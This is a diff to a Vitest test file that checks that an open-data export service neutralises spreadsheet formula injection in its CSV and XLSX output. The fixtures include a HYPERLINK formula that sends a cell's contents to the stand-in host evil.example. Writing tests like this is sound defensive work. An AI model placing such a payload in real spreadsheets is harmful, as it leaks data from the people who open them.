@@ -1,9 +1,10 @@
+import { unzipSync } from "fflate";
 import { describe, expect, it } from "vitest";
 import { toCsv } from "@/lib/open-data/csv";
 import type { ScdlSubventionRow } from "@/lib/open-data/scdl-schema";
 import { csvLine } from "./csv";
 import { neutraliseFormula } from "./formula";
-import { rowXml } from "./xlsx";
+import { xlsxChunks } from "./xlsx";
 
 const attacks = ['=HYPERLINK("https://evil.example/?"&A1,"Voir")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1"];
 
@@ -19,10 +20,16 @@ describe("formula injection in the files the service writes", () => {
     },
   );
 
-  it("the review export's CSV and XLSX neutralise text cells, not numbers", () => {
+  it("the review export's CSV and XLSX neutralise text cells, not numbers", async () => {
     expect(csvLine(["=1+1", -12.5, "-5"])).toBe("'=1+1;-12.5;-5\r\n");
-    expect(rowXml(["@cmd", -3])).toBe(
-      '<row><c t="inlineStr"><is><t xml:space="preserve">\'@cmd</t></is></c><c><v>-3</v></c></row>',
+    async function* row() {
+      yield ["@cmd", -3];
+    }
+    const chunks: Uint8Array[] = [];
+    for await (const chunk of xlsxChunks("Feuille", ["Texte", "Nombre"], row())) chunks.push(chunk);
+    const sheet = new TextDecoder().decode(unzipSync(Buffer.concat(chunks))["xl/worksheets/sheet1.xml"]);
+    expect(sheet).toContain(
+      '<row r="2" spans="1:2" x14ac:dyDescent="0.25"><c r="A2" t="str"><v>&apos;@cmd</v></c><c r="B2"><v>-3</v></c></row>',
     );
   });
 
